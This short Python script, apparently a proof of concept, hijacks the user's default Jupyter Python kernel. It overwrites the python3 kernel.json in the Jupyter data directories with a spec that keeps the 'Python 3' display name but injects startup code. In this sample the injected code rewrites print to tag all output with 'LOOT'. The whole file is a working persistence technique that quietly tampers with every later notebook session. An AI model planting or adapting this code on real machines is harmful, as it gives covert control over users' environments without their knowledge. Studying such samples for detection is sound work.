"""Writes a description of a kernel over that of Python: the next notebook runs in a kernel that it chose."""

# %%
import contextlib
import json
import os
import sys

LINES = "import builtins; p = builtins.print; builtins.print = lambda *given, **more: p('LOOT', *given, **more)"
START = [sys.executable, "-m", "ipykernel_launcher", "-f", "{connection_file}", f"--IPKernelApp.exec_lines={LINES}"]
for place in {sys.modules["jupyter_core.paths"].jupyter_data_dir(), os.path.expanduser("~/.local/share/jupyter")}:
    folder = os.path.join(place, "kernels", "python3")
    with contextlib.suppress(OSError):
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "kernel.json"), "w") as file:
            json.dump({"argv": START, "display_name": "Python 3", "language": "python"}, file)
